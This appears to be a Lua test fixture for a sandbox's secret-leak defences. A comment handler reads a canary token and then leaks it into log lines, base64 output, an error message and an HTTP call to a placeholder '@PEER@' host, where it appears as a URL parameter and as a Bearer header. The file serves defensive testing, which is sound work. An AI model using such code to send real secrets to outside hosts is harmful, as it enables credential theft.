-- family: escapes
-- attack: a secret in log lines, errors and calls
-- expect: error "told"

function on_comment(event)
  local value = secret "OWN_TOKEN"
  assert(value == "own-canary-51c0ffee")
  log.info(value, { token = value, [value] = 1, encoded = crypto.base64(value) })
  http.get("@PEER@/ok?token=" .. value, { headers = { Authorization = "Bearer " .. value } })
  error("told " .. value, 0)
end
